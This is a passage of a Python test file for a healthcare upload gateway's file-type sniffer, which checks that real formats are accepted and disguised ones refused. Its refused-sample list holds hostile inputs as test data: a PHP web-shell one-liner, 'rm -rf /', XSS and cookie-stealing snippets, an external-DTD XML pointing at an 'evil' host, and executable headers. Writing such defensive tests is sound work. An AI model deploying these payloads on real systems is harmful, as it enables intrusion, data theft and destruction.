"""Content type from the bytes: real magic numbers in, allowlisted types out, disguises refused."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.files import sniff as s
from gateway.files.sniff import (
    ALLOWED_TYPES,
    INLINE_TYPES,
    SNIFF_BYTES,
    is_inline,
    sniff,
)

# -- sample builders (the real structures, only as much of them as identification needs) ----


def png() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(ihdr))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


def jpeg() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64


def riff(form: bytes, body: bytes = b"") -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + form + body


def bmp() -> bytes:
    dib = struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(dib) + 4, 0, 0, 54) + dib + b"\x00" * 4


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00\x00\x00\x08free"


_SHORT_VRS = {b"AE", b"AS", b"CS", b"DA", b"DS", b"IS", b"LO", b"PN", b"SH", b"TM", b"UI",
              b"UL", b"US"}
CT_IMAGE = b"1.2.840.10008.5.1.4.1.1.2"
EXPLICIT_LE = b"1.2.840.10008.1.2.1"
IMPLICIT_LE = b"1.2.840.10008.1.2"


def _even(value: bytes, vr: bytes) -> bytes:
    pad = b"\x00" if vr in (b"UI", b"OB") else b" "
    return value + pad if len(value) % 2 else value


def element(group: int, number: int, vr: bytes, value: bytes, *, explicit: bool = True) -> bytes:
    """One DICOM data element, little endian (PS3.5 7.1)."""
    value = _even(value, vr)
    tag = struct.pack("<HH", group, number)
    if not explicit:
        return tag + struct.pack("<I", len(value)) + value
    if vr in _SHORT_VRS:
        return tag + vr + struct.pack("<H", len(value)) + value
    return tag + vr + b"\x00\x00" + struct.pack("<I", len(value)) + value


def file_meta(transfer_syntax: bytes = EXPLICIT_LE, *, version: bytes = b"\x00\x01",
              length_fix: int = 0) -> bytes:
    """DICOM File Meta Information: (0002,0000) group length, then the group's elements."""
    body = (
        element(2, 0x0001, b"OB", version)
        + element(2, 0x0002, b"UI", CT_IMAGE)
        + element(2, 0x0003, b"UI", b"1.2.826.0.1.3680043.8.498.1234567890")
        + element(2, 0x0010, b"UI", transfer_syntax)
        + element(2, 0x0012, b"UI", b"1.2.826.0.1.3680043.8.498.1")
        + element(2, 0x0013, b"SH", b"GATEWAY_TEST")
    )
    return element(2, 0x0000, b"UL", struct.pack("<I", len(body) + length_fix)) + body


def meta_of(elements: bytes) -> bytes:
    """File Meta Information of these group 0002 elements, after their group length."""
    return element(2, 0x0000, b"UL", struct.pack("<I", len(elements))) + elements


def dataset(*, explicit: bool = True) -> bytes:
    """The first elements of a CT image's data set (group 0008 onwards)."""
    return (
        element(8, 0x0005, b"CS", b"ISO_IR 100", explicit=explicit)
        + element(8, 0x0008, b"CS", b"ORIGINAL\\PRIMARY\\AXIAL", explicit=explicit)
        + element(8, 0x0016, b"UI", CT_IMAGE, explicit=explicit)
        + element(8, 0x0018, b"UI", b"1.2.826.0.1.3680043.8.498.1234567890", explicit=explicit)
        + element(8, 0x0020, b"DA", b"20260301", explicit=explicit)
        + element(8, 0x0060, b"CS", b"CT", explicit=explicit)
        + element(0x10, 0x0010, b"PN", b"Doe^Jane", explicit=explicit)
    )


def dicom(preamble: bytes = b"\x00" * 128, meta: bytes | None = None, *,
          explicit: bool = True) -> bytes:
    """A DICOM Part 10 file: preamble, ``DICM``, File Meta Information, the data set."""
    assert len(preamble) == 128
    return preamble + b"DICM" + (file_meta() if meta is None else meta) + dataset(explicit=explicit)


def pe_header() -> bytes:
    """The start of a Windows executable: DOS header (e_lfanew = 64) and the PE signature."""
    dos = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    dos = dos.ljust(60, b"\x00") + struct.pack("<I", 64)
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return (dos + coff).ljust(128, b"\x00")


def elf_header() -> bytes:
    return (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1)).ljust(
        128, b"\x00"
    )


def ebml(doc_type: bytes) -> bytes:
    body = (
        b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
        + b"\x42\x82"
        + bytes([0x80 | len(doc_type)])
        + doc_type
        + b"\x42\x87\x81\x04\x42\x85\x81\x02"
    )
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body + b"\x18\x53\x80\x67"


def ogg(packet: bytes) -> bytes:
    header = b"OggS\x00\x02" + b"\x00" * 8 + b"\x01\x00\x00\x00" + b"\x00" * 8
    return header + bytes([1, len(packet)]) + packet


def mp3_frames(count: int = 3) -> bytes:
    # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz, no padding: 144 * 128000 // 44100 = 417 bytes.
    frame = b"\xff\xfb\x90\x00" + b"\x00" * 413
    return frame * count


def id3(payload: bytes, tag_size: int = 20) -> bytes:
    size = bytes((tag_size >> shift) & 0x7F for shift in (21, 14, 7, 0))  # syncsafe integer
    return b"ID3\x04\x00\x00" + size + b"\x00" * tag_size + payload


def adts_frames(count: int = 3, length: int = 100) -> bytes:
    header = bytes(
        [
            0xFF,
            0xF1,  # MPEG-4, layer 0, no CRC
            0x50,  # AAC LC, 44.1 kHz
            0x80 | (length >> 11),
            (length >> 3) & 0xFF,
            ((length & 7) << 5) | 0x1F,
            0xFC,
        ]
    )
    return (header + b"\x00" * (length - 7)) * count


def mpeg_ts(packets: int = 4, stride: int = 188, prefix: int = 0) -> bytes:
    packet = b"\x00" * prefix + b"\x47\x40\x00\x10" + b"\xff" * 184
    assert len(packet) == stride
    return packet * packets


def office_zip(
    entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def content_types(main: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="{main}"/>'
        "</Types>"
    ).encode()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx(main: str = DOCX_MAIN, folder: str = "word", **kwargs: int) -> bytes:
    return office_zip(
        [
            ("[Content_Types].xml", content_types(main)),
            ("_rels/.rels", b"<Relationships/>"),
            (f"{folder}/document.xml", b"<document>" + b"x" * 5000 + b"</document>"),
        ],
        **kwargs,
    )


def odf(mime: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mime.encode(), compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<content/>", compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ole2(*streams: str) -> bytes:
    signature = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header = signature + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    header = header.ljust(512, b"\x00")
    directory = b""
    for name in ("Root Entry", *streams):
        encoded = (name + "\x00").encode("utf-16-le")
        directory += encoded.ljust(64, b"\x00") + struct.pack("<H", len(encoded)) + b"\x02" * 62
    return header + directory.ljust(512, b"\x00")


HL7_ORU = (
    "MSH|^~\\&|LAB|ST-MARY|EHR|CLINIC|20260301081500||ORU^R01^ORU_R01|MSG00042|P|2.5.1\r"
    "PID|1||444333222^^^ST-MARY^MR||DOE^JANE^E||19700320|F\r"
    "OBR|1|ORD776655|LAB2233|24362-6^Renal panel^LN|||20260301071500\r"
    "OBX|1|NM|2160-0^Creatinine^LN||1.4|mg/dL|0.6-1.2|H|||F\r"
    "OBX|2|NM|33914-3^eGFR^LN||52|mL/min/1.73m2|>60|L|||F\r"
    "NTE|1||Creatinine back <baseline expected in 2 weeks\r"
).encode()


def hl7_batch() -> bytes:
    return (
        b"FHS|^~\\&|LAB|ST-MARY|EHR|CLINIC|20260301090000\r\n"
        b"BHS|^~\\&|LAB|ST-MARY|EHR|CLINIC|20260301090000\r\n"
        + HL7_ORU.replace(b"\r", b"\r\n")
        + b"BTS|1\r\nFTS|1\r\n"
    )


def cda(*, prolog: str = "", root_attrs: str = "", body: str = "") -> bytes:
    """An HL7 CDA R2 document (a discharge summary's header and narrative)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + prolog
        + '<ClinicalDocument xmlns="urn:hl7-org:v3" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xmlns:sdtc="urn:hl7-org:sdtc"' + root_attrs + ">\n"
        '  <realmCode code="GB"/>\n'
        '  <typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>\n'
        '  <id root="2.16.840.1.113883.19.5.99999.1" extension="TT988"/>\n'
        '  <code code="18842-5" codeSystem="2.16.840.1.113883.6.1" displayName="Discharge summary"/>\n'
        "  <title>Discharge summary</title>\n"
        '  <effectiveTime value="20260301"/>\n'
        "  <component><structuredBody><component><section>\n"
        "    <title>Hospital course</title>\n"
        "    <text><paragraph>Creatinine back &lt;baseline.</paragraph>"
        "<table><tr><td>eGFR</td><td>52</td></tr></table></text>\n"
        + body
        + "  </section></component></structuredBody></component>\n"
        "</ClinicalDocument>\n"
    ).encode()


def fhir_patient(**extra: object) -> bytes:
    import json

    resource = {
        "resourceType": "Patient",
        "id": "example",
        "text": {
            "status": "generated",
            "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>Jane Doe, born 1970</p></div>',
        },
        "name": [{"family": "Doe", "given": ["Jane"]}],
        "birthDate": "1970-03-20",
        **extra,
    }
    return json.dumps(resource, indent=2).encode()


def eml(body: str = "Please see the attached referral.\r\n") -> bytes:
    """A referral saved from a mail client (RFC 5322 header block, a MIME body)."""
    return (
        "Return-Path: <gp@practice.example>\r\n"
        "Received: from mail.practice.example (mail.practice.example [192.0.2.10])\r\n"
        "\tby mx.clinic.example with ESMTPS id 4AbCdE; Sun, 1 Mar 2026 09:12:01 +0100\r\n"
        "From: Dr. A. Smith <gp@practice.example>\r\n"
        "To: referrals@clinic.example\r\n"
        "Subject: Referral: Jane Doe, 20.03.1970\r\n"
        "Date: Sun, 1 Mar 2026 09:12:00 +0100\r\n"
        "Message-ID: <20260301091200.12345@practice.example>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n'
        "\r\n"
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body
        + "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        "<html><body><p>Please see the attached referral.</p></body></html>\r\n--b1--\r\n"
    ).encode()


ASF_HEADER_GUID = bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c")
ASF_AUDIO = bytes.fromhex("409e69f84d5bcf11a8fd00805f5c442b")
ASF_VIDEO = bytes.fromhex("c0ef19bc4d5bcf11a8fd00805f5c442b")
ASF_STREAM_PROPERTIES = bytes.fromhex("9107dcb7b7a9cf118ee600c00c205365")
ASF_FILE_PROPERTIES = bytes.fromhex("a1dcab8c47a9cf118ee400c00c205365")


def asf(*stream_types: bytes) -> bytes:
    """An ASF Header Object holding one Stream Properties Object per stream."""
    file_properties = ASF_FILE_PROPERTIES + struct.pack("<Q", 104) + b"\x00" * 80
    objects = file_properties + b"".join(
        ASF_STREAM_PROPERTIES + struct.pack("<Q", 78) + kind + b"\x00" * 16 + b"\x00" * 30
        for kind in stream_types
    )
    size = 30 + len(objects)
    count = 1 + len(stream_types)
    return ASF_HEADER_GUID + struct.pack("<QI", size, count) + b"\x01\x02" + objects


def jp2(brand: bytes = b"jp2 ") -> bytes:
    signature = b"\x00\x00\x00\x0cjP  \r\n\x87\n"
    ftyp_box = struct.pack(">I", 20) + b"ftyp" + brand + b"\x00\x00\x00\x00" + brand
    return signature + ftyp_box + struct.pack(">I", 45) + b"jp2h" + b"\x00" * 37


def j2c(components: int = 1) -> bytes:
    """A raw JPEG 2000 codestream: SOC, then the SIZ marker segment (ISO/IEC 15444-1, A.5.1)."""
    siz = struct.pack(">HHIIIIIIIIH", 38 + 3 * components, 0, 512, 512, 0, 0, 512, 512, 0, 0,
                      components) + b"\x07\x01\x01" * components
    return b"\xff\x4f\xff\x51" + siz + b"\xff\x52\x00\x0c"


# -- allowed kinds ---------------------------------------------------------------------------

ALLOWED_SAMPLES: list[tuple[str, bytes, str | None, str]] = [
    ("jpeg", jpeg(), "photo.jpg", s.JPEG),
    ("png", png(), "scan.png", s.PNG),
    ("gif87", b"GIF87a\x01\x00\x01\x00\x00\x00\x00", None, s.GIF),
    ("gif89", b"GIF89a\x01\x00\x01\x00\x80\x00\x00", "x.gif", s.GIF),
    ("webp", riff(b"WEBP", b"VP8 \x00\x00\x00\x00"), "x.webp", s.WEBP),
    ("tiff-le", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 16, "scan.tif", s.TIFF),
    ("tiff-be", b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 16, "scan.tiff", s.TIFF),
    ("bigtiff", b"II+\x00\x08\x00\x00\x00" + b"\x00" * 16, None, s.TIFF),
    ("bmp", bmp(), "x.bmp", s.BMP),
    ("heic", ftyp(b"heic", b"mif1", b"heic"), "IMG_0001.HEIC", s.HEIC),
    ("heif-mif1-heic", ftyp(b"mif1", b"mif1", b"heic"), "x.heic", s.HEIC),
    ("heif", ftyp(b"mif1", b"mif1"), "x.heif", s.HEIF),
    ("avif", ftyp(b"avif", b"mif1", b"avif"), "x.avif", s.AVIF),
    ("avif-mif1", ftyp(b"mif1", b"avif", b"mif1"), "x.avif", s.AVIF),
    ("dicom", dicom(), "image.dcm", s.DICOM),
    ("dicom-no-name", dicom(), None, s.DICOM),
    ("dicom-uid-name", dicom(), "1.2.840.113619.2.55.3.604688119", s.DICOM),
    ("dicom-implicit", dicom(meta=file_meta(IMPLICIT_LE), explicit=False), "IM0001", s.DICOM),
    ("dicom-stray-preamble-value", dicom(b"\x00" * 16 + b"\x01" + b"\x00" * 111), "17106",
     s.DICOM),  # as a DICOMDIR writer left it
    ("dicom-empty-sop-uids", dicom(meta=meta_of(
        element(2, 1, b"OB", b"\x00\x01") + element(2, 2, b"UI", b"") + element(2, 3, b"UI", b"")
        + element(2, 0x10, b"UI", EXPLICIT_LE))), "x.dcm", s.DICOM),
    ("dicom-tiff-preamble", dicom(b"II*\x00\x08\x00\x00\x00".ljust(128, b"\x00")), "slide.dcm",
     s.DICOM),
    ("dicom-no-preamble", file_meta() + dataset(), "image.dcm", s.DICOM),
    ("dicom-no-meta-implicit", dataset(explicit=False), "IM0002", s.DICOM),
    ("dicom-no-meta-explicit", dataset(), "image.dcm", s.DICOM),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "scan.pdf", s.PDF),
    ("pdf-junk-line", b"Scanned by ward 7 MFP\r\n%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "scan.pdf", s.PDF),
    ("pdf-pjl", b"\x1b%-12345X@PJL JOB NAME=\"Befund\"\r\n@PJL ENTER LANGUAGE=PDF\r\n%PDF-1.7\n",
     "print.pdf", s.PDF),
    ("pdf-header-at-1000", b"x" * 999 + b"\n%PDF-1.7\n", "scan.pdf", s.PDF),
    ("jp2", jp2(), "scan.jp2", s.JP2),
    ("jpx", jp2(b"jpx "), "scan.jpx", s.JPX),
    ("j2c", j2c(), "scan.j2k", s.J2C),
    ("j2c-rgb", j2c(3), "scan.j2c", s.J2C),
    ("wma", asf(ASF_AUDIO), "dictation.wma", s.WMA),
    ("wmv", asf(ASF_AUDIO, ASF_VIDEO), "endoscopy.wmv", s.WMV),
    ("asf-by-name", asf(), "dictation.wma", s.WMA),
    ("hl7", HL7_ORU, "result.hl7", s.HL7_V2),
    ("hl7-no-name", HL7_ORU, None, s.HL7_V2),
    ("hl7-mllp", b"\x0b" + HL7_ORU + b"\x1c\r", "capture.hl7", s.HL7_V2),
    ("hl7-batch-crlf", hl7_batch(), "batch.hl7", s.HL7_V2),
    ("hl7-v27-truncation-char", HL7_ORU.replace(b"^~\\&", b"^~\\&#"), "a.hl7", s.HL7_V2),
    ("cda", cda(), "discharge.xml", s.CDA_XML),
    ("cda-stylesheet", cda(prolog='<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n'),
     "discharge.xml", s.CDA_XML),
    ("cda-comment-prefixed", cda(prolog="<!-- exported 2026-03-01 -->\n"), "summary.cda",
     s.CDA_XML),
    ("cda-utf16", "\ufeff".encode("utf-16-le") + cda().decode().encode("utf-16-le"), "d.xml",
     s.CDA_XML),
    ("fhir-json", fhir_patient(), "patient.json", s.FHIR_JSON),
    ("fhir-json-long", fhir_patient(note="x" * 6000), "patient.json", s.FHIR_JSON),
    ("fhir-bundle", b'{"resourceType":"Bundle","type":"document","entry":[]}', "b.json",
     s.FHIR_JSON),
    ("eml", eml(), "referral.eml", s.EML),
    ("eml-mbox-line", b"From gp@practice.example Sun Mar  1 09:12:00 2026\n" + eml(),
     "referral.eml", s.EML),
    ("mp4-isom", ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), "clip.mp4", s.MP4),
    ("mp4-mp42", ftyp(b"mp42", b"mp42", b"isom"), None, s.MP4),
    ("m4v", ftyp(b"M4V ", b"M4V ", b"M4A ", b"mp42", b"isom"), "clip.m4v", s.MP4),
    ("mov", ftyp(b"qt  ", b"qt  "), "IMG_0002.MOV", s.QUICKTIME),
    ("mov-legacy", b"\x00\x00\x00\x08wide" + b"\x00\x01\x00\x00mdat", "old.mov", s.QUICKTIME),
    ("3gp", ftyp(b"3gp4", b"isom", b"3gp4"), "clip.3gp", s.THREEGP),
    ("3g2", ftyp(b"3g2a", b"3g2a"), "clip.3g2", s.THREEG2),
    ("m4a", ftyp(b"M4A ", b"M4A ", b"mp42", b"isom"), "voice.m4a", s.M4A),
    ("m4a-generic-brand", ftyp(b"isom", b"isom", b"mp42"), "voice.m4a", s.M4A),
    ("webm", ebml(b"webm"), "clip.webm", s.WEBM),
    ("weba", ebml(b"webm"), "voice.weba", s.WEBM_AUDIO),
    ("mkv", ebml(b"matroska"), "clip.mkv", s.MATROSKA),
    ("mka", ebml(b"matroska"), "song.mka", s.MATROSKA_AUDIO),
    ("avi", riff(b"AVI ", b"LIST\x00\x00\x00\x00hdrl"), "clip.avi", s.AVI),
    ("ts", mpeg_ts(), "clip.ts", s.MPEG_TS),
    ("m2ts", mpeg_ts(stride=192, prefix=4), "clip.m2ts", s.MPEG_TS),
    ("mpeg-ps", b"\x00\x00\x01\xba\x44\x00\x04\x00\x04\x01\x01\x89\xc3\xf8", "clip.mpg", s.MPEG_PS),
    ("mpeg-es", b"\x00\x00\x01\xb3\x16\x00\xf0\x15", "clip.m1v", s.MPEG_PS),
    ("ogv", ogg(b"\x80theora\x03\x02\x01"), "clip.ogv", s.OGG_VIDEO),
    ("mp3-id3", id3(mp3_frames()), "song.mp3", s.MP3),
    ("mp3-id3-cover-art", id3(b"", tag_size=100_000), "song.mp3", s.MP3),
    ("mp3-frames", mp3_frames(), "song.mp3", s.MP3),
    ("mp3-one-frame", mp3_frames(1)[:100], None, s.MP3),
    ("mp2", b"\xff\xfd\x94\x00" + b"\x00" * 100, "audio.mp2", s.MP3),  # MPEG-1 Layer II
    # MPEG-2 Layer III, 80 kbit/s, 22.05 kHz: 72 * 80000 // 22050 = 261-byte frames.
    ("mp3-mpeg2", (b"\xff\xf3\x90\x00" + b"\x00" * 257) * 3, "voice.mp3", s.MP3),
    ("wav", riff(b"WAVE", b"fmt \x10\x00\x00\x00\x01\x00\x01\x00"), "voice.wav", s.WAV),
    ("wav-rf64", b"RF64\xff\xff\xff\xffWAVEds64", "long.wav", s.WAV),
    ("flac", b"fLaC\x00\x00\x00\x22" + b"\x00" * 34, "song.flac", s.FLAC),
    ("flac-id3", id3(b"fLaC\x00\x00\x00\x22"), "song.flac", s.FLAC),
    ("ogg-vorbis", ogg(b"\x01vorbis\x00\x00\x00\x00"), "song.ogg", s.OGG_AUDIO),
    ("ogg-opus", ogg(b"OpusHead\x01\x02"), "voice.opus", s.OGG_AUDIO),
    ("ogg-flac", ogg(b"\x7fFLAC\x01\x00"), "song.oga", s.OGG_AUDIO),
    ("aac", adts_frames(), "voice.aac", s.AAC),
    ("aac-id3", id3(adts_frames()), "voice.aac", s.AAC),
    ("aiff", b"FORM\x00\x00\x00\x20AIFFCOMM", "song.aiff", s.AIFF),
    ("docx", docx(), "letter.docx", s.DOCX),
    ("docx-misnamed", docx(), "letter.bin", s.DOCX),  # the bytes name their type
    ("docx-stored", docx(compression=zipfile.ZIP_STORED), "letter.docx", s.DOCX),
    ("xlsx", docx(XLSX_MAIN, "xl"), "table.xlsx", s.XLSX),
    ("pptx", docx(PPTX_MAIN, "ppt"), "slides.pptx", s.PPTX),
    ("odt", odf(s.ODT), "letter.odt", s.ODT),
    ("ods", odf(s.ODS), "table.ods", s.ODS),
    ("odp", odf(s.ODP), "slides.odp", s.ODP),
    ("doc", ole2("WordDocument", "\x05SummaryInformation"), "letter.doc", s.DOC),
    ("doc-misnamed", ole2("WordDocument"), "letter.xls", s.DOC),
    ("xls", ole2("Workbook"), "table.xls", s.XLS),
    ("xls95", ole2("Book"), "table.xls", s.XLS),
    ("ppt", ole2("PowerPoint Document", "Current User"), "slides.ppt", s.PPT),
    ("doc-by-name", ole2() + b"\x00" * 3000, "letter.doc", s.DOC),
    ("xls-by-name", ole2(), "table.XLS", s.XLS),
    ("rtf", b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Hello}", "note.rtf", s.RTF),
    ("txt", b"Patient notes\r\nline two\tindented\n", "notes.txt", s.TEXT),
    ("txt-utf8", "Ärztin: Dr. Müller – 患者\n".encode(), "notes.txt", s.TEXT),
    ("txt-utf8-bom", b"\xef\xbb\xbfhello\n", "notes.txt", s.TEXT),
    ("txt-utf16", "\ufeffhello, world\r\n".encode("utf-16-le"), "notes.txt", s.TEXT),
    ("txt-utf16-be", "\ufeffhello\n".encode("utf-16-be"), "notes.txt", s.TEXT),
    ("csv", b"id,name,dose\n1,A,<5 mg\n2,B,10 mg\n", "doses.csv", s.CSV),
    ("txt-less-than-word", b"Creatinine back <baseline. Symptoms for <a week.\n"
     b"Target weight <body ideal, BP <140/90 and HR >100.\n", "note.txt", s.TEXT),
    ("txt-starts-with-less-than", b"<2 weeks of cough, <a week of fever\n", "note.txt", s.TEXT),
    ("txt-placeholders", b"Dear <name>, your appointment is on <date> with <patient name>.\n",
     "template.txt", s.TEXT),
    ("csv-less-than-cells", b"patient,note\n1,Symptoms for <a week\n2,weight <body ideal\n"
     b"3,Creatinine back <baseline\n4,\"<a few days, then >3 days\"\n", "notes.csv", s.CSV),
    ("txt-hl7", HL7_ORU, "result.txt", s.TEXT),
    ("csv-cp1252", "name;note\nMüller;caf\u00e9 \u20ac5\n".encode("cp1252"), "export.CSV", s.CSV),
    ("tsv", b"a\tb\n1\t2\n", "table.tsv", s.TSV),
    ("txt-shift-jis", "患者のメモ\r\n".encode("shift_jis"), "memo.txt", s.TEXT),
    ("csv-latin1", "name\nM\u00fcller\n".encode("latin-1"), "x.csv", s.CSV),
    ("txt-json", b'{"a": 1}\n', "data.txt", s.TEXT),
]


@pytest.mark.parametrize(
    ("head", "filename", "expected"),
    [pytest.param(head, name, mime, id=case) for case, head, name, mime in ALLOWED_SAMPLES],
)
def test_allowed(head: bytes, filename: str | None, expected: str) -> None:
    assert expected in ALLOWED_TYPES
    assert sniff(head, filename) == expected


def test_every_allowed_type_is_exercised() -> None:
    assert {mime for *_, mime in ALLOWED_SAMPLES} == ALLOWED_TYPES


def test_text_cut_mid_character_is_still_text() -> None:
    head = ("é" * SNIFF_BYTES).encode()[: SNIFF_BYTES - 1]
    assert sniff(head, "notes.txt") == s.TEXT


def test_ooxml_beyond_the_first_bytes_falls_back_on_names() -> None:
    # A large first entry pushes [Content_Types].xml out of view; part names and the file
    # name must then agree.
    noise = bytes(range(256)) * 64
    data = office_zip(
        [("word/media/image1.png", noise), ("[Content_Types].xml", content_types(DOCX_MAIN))],
        compression=zipfile.ZIP_STORED,
    )
    assert sniff(data, "letter.docx") == s.DOCX
    assert sniff(data, "letter.xlsx") is None  # the names say word/, the name says xlsx
    assert sniff(data, "letter.zip") is None
    assert sniff(data, None) is None


def test_ooxml_with_data_descriptors() -> None:
    # Streaming writers put sizes after the data (general purpose flag bit 3).
    buffer = io.BytesIO()

    class Unseekable(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data: bytes) -> int:  # type: ignore[override]
            return buffer.write(data)

    with zipfile.ZipFile(Unseekable(), "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types(XLSX_MAIN))
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    data = buffer.getvalue()
    assert _u16(data, 6) & 0x08
    assert sniff(data, "table.bin") == s.XLSX


def _u16(data: bytes, pos: int) -> int:
    return int.from_bytes(data[pos : pos + 2], "little")


# -- refused kinds -------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/files')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil/x.dtd"><x/>'
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56

REFUSED_SAMPLES: list[tuple[str, bytes, str | None]] = [
    ("empty", b"", "scan.pdf"),
    ("empty-no-name", b"", None),
    ("html-as-pdf", HTML, "scan.pdf"),
    ("html-as-jpg", HTML, "photo.jpg"),
    ("html", HTML, "page.html"),
    ("html-as-txt", HTML, "notes.txt"),
    ("html-late-in-txt", b"harmless first line\n" + HTML, "notes.txt"),
    ("html-bom-as-txt", b"\xef\xbb\xbf  \n" + HTML, "notes.csv"),
    ("html-utf16-as-txt", b"\xff\xfe" + HTML.decode().encode("utf-16-le"), "notes.txt"),
    ("svg", SVG, "image.svg"),
    ("svg-as-png", SVG, "image.png"),
    ("svg-as-txt", SVG, "image.txt"),
    ("svg-xml-decl", b'<?xml version="1.0"?>\n' + SVG, "image.svg"),
    ("xml", XML, "data.xml"),
    ("xml-as-txt", XML, "data.txt"),
    ("javascript", b"fetch('/api/v1/files').then(r => r.text())\n", "app.js"),
    ("javascript-as-pdf", b"alert(document.cookie)\n", "scan.pdf"),
    ("javascript-url-as-txt", b"javascript:alert(1)\n", "link.txt"),
    ("php-as-txt", b"<?php system($_GET['c']); ?>\n", "notes.txt"),
    ("mz-as-jpg", MZ, "photo.jpg"),
    ("mz-as-txt", MZ, "notes.txt"),
    ("mz", MZ, "setup.exe"),
    ("elf", ELF, "scan.pdf"),
    ("mach-o", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "photo.jpg"),
    ("java-class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "x.txt"),
    ("wasm", b"\x00asm\x01\x00\x00\x00", "x.pdf"),
    ("shell", b"#!/bin/sh\nrm -rf /\n", "run.sh"),
    ("shell-as-txt", b"#!/bin/sh\nrm -rf /\n", "notes.txt"),
    ("shell-indented-as-txt", b"\n  #!/usr/bin/env python\n", "notes.txt"),
    ("text-without-text-name", b"plain words\n", "notes.pdf"),
    ("text-without-name", b"plain words\n", None),
    ("text-with-nul", b"hello\x00world\n", "notes.txt"),
    ("text-with-escape", b"hello\x1b[2Jworld\n", "notes.txt"),
    ("text-bad-utf16", b"\xff\xfe\x00\xd8a\x00", "notes.txt"),
    ("text-utf16-control", "\ufeffa\x00b".encode("utf-16-le"), "notes.txt"),
    ("text-utf8-c1-control", "a\x9bb".encode(), "notes.txt"),
    ("text-8bit-del", b"caf\xe9\x7f", "notes.txt"),
    ("html-in-shift-jis", "患者".encode("shift_jis") + b"<script>x</script>", "memo.txt"),
    ("postscript", b"%!PS-Adobe-3.0\n", "scan.pdf"),
    ("pdf-late-header", b"<html>" + b"%PDF-1.7\n", "scan.pdf"),
    ("plain-zip", office_zip([("evil.exe", MZ)]), "report.docx"),
    ("plain-zip-as-zip", office_zip([("a.txt", b"x")]), "a.zip"),
    ("jar", office_zip([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")]), "x.docx"),
    ("docm", docx(DOCM_MAIN), "letter.docx"),
    ("docm-as-docm", docx(DOCM_MAIN), "letter.docm"),
